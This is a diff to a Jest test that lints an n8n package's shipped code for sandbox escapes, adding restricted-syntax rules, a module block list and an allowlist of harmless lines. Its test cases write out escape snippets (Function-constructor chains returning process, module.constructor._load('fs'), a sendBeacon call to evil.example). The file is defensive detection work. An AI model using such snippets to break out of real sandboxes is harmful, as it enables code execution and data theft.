@@ -9,8 +9,10 @@ jest.setTimeout(120_000);
 const FORBIDDEN_GLOBALS = [
 	...['process', 'global', 'globalThis', 'console', '__dirname', '__filename'],
 	...['setTimeout', 'setInterval', 'setImmediate', 'clearTimeout', 'clearInterval', 'clearImmediate'],
-	...['fetch', 'XMLHttpRequest', 'WebSocket', 'eval', 'WebAssembly'],
+	...['fetch', 'XMLHttpRequest', 'WebSocket', 'eval', 'WebAssembly', 'Function'],
 ];
+/** All that shipped code reaches besides the language itself, its own files and the modules below. */
+const ALLOWED_GLOBALS = ['AbortSignal', 'Buffer', 'TextDecoder', 'URL', 'URLSearchParams', 'exports', 'module', 'queueMicrotask', 'require'];
 const ALLOWED_MODULES = ['n8n-workflow', 'luxon', 'crypto', 'node:crypto'];
 
 /** Reports every module that is neither allowed nor relative, and every one whose name is not written down. */
@@ -40,11 +42,20 @@ const CONFIGURATION = {
 	languageOptions: {
 		ecmaVersion: 2022,
 		sourceType: 'commonjs',
-		globals: Object.fromEntries(FORBIDDEN_GLOBALS.map((name) => [name, 'readonly'])),
+		globals: Object.fromEntries([...FORBIDDEN_GLOBALS, ...ALLOWED_GLOBALS].map((name) => [name, 'readonly'])),
 	},
 	linterOptions: { noInlineConfig: true, reportUnusedDisableDirectives: 'off' },
 	plugins: { house: { rules: { 'allowed-modules': allowedModules } } },
 	rules: {
+		'no-undef': ['error', { typeof: true }],
+		'no-restricted-syntax': [
+			'error',
+			{ selector: 'MemberExpression[object.name="module"][property.name!="exports"], MemberExpression[object.name="module"][computed=true]', message: 'module of Node.js' },
+			{ selector: ':matches(CallExpression, NewExpression)[callee.type="MemberExpression"][callee.property.name="constructor"]', message: 'a constructor that makes code' },
+			{ selector: 'MemberExpression[property.name="constructor"] > MemberExpression.object[property.name="constructor"]', message: 'a constructor that makes code' },
+			{ selector: 'MemberExpression[property.value=/^(constructor|mainModule|binding)$/]', message: 'a name that leads out' },
+			{ selector: 'Literal[value=/^(node:)?(fs|net|tls|dns|http|https|http2|child_process|cluster|dgram|worker_threads|vm|v8|inspector|os|repl)$/]', message: 'the name of a module of Node.js' },
+		],
 		'no-restricted-globals': ['error', ...FORBIDDEN_GLOBALS],
 		'no-eval': 'error',
 		'no-new-func': 'error',
@@ -52,9 +63,12 @@ const CONFIGURATION = {
 	},
 };
 
+/** Lines of inlined libraries that only look like a way out: a parser of numbers for old browsers, a test whether a function is built in. */
+const HARMLESS_LINES = [/else if \(window && window\.parseInt\) return window\.parseInt/, /Function\.toString\.call\(\w+\)\.indexOf\("\[native code\]"\)/];
+
 /** @returns {string[]} what is forbidden in a script, by its syntax tree: a comment, a text or a property of that name is not */
 const findForbidden = (code) =>
-	new Linter().verify(code, CONFIGURATION).map(({ line, message }) => `line ${line}: ${message}`);
+	new Linter().verify(code, CONFIGURATION).filter(({ line }) => !HARMLESS_LINES.some((harmless) => harmless.test(code.split('\n')[line - 1]))).map(({ line, message }) => `line ${line}: ${message}`);
 
 describe('the walk through shipped code', () => {
 	it.each([
@@ -69,6 +83,15 @@ describe('the walk through shipped code', () => {
 		['a module whose name is computed', 'require(`${name}`);'],
 		['a module loaded later', 'import("axios");'],
 		['require under another name', 'const r = require; r("fs");'],
+		['the maker of functions under another name', 'const F = Function; F("return 1")();'],
+		['the maker of functions behind any function', '(() => {}).constructor("return process")();'],
+		['the maker of functions behind any object', 'const F = {}.constructor.constructor; F("return process")();'],
+		['the same by a text', '[]["constructor"]("x");'],
+		['the loader of modules behind module', 'module.constructor._load("fs");'],
+		['module.require', 'module.require("fs");'],
+		['the name of a module, to be handed to somebody', 'const name = "child_process";'],
+		['any other global', 'navigator.sendBeacon("https://evil.example");'],
+		['a global that is only asked for', 'if (typeof Bun === "object") a();'],
 		['what a comment would silence', '/* eslint-disable */ process.exit();'],
 	])('finds %s', (_what, code) => {
 		expect(findForbidden(code)).not.toEqual([]);
@@ -82,7 +105,7 @@ describe('the walk through shipped code', () => {
 });
 
 describe('the code that is shipped', () => {
-	it('uses no global that n8n forbids, and no module but n8n-workflow, luxon, crypto and its own', async () => {
+	it('reaches nothing but the language, a handful of globals, n8n-workflow, luxon, crypto and its own files', async () => {
 		const { folder, files } = await packedPackage();
 		const scripts = files.filter((file) => file.endsWith('.js'));
 		const findings = scripts.flatMap((file) => {
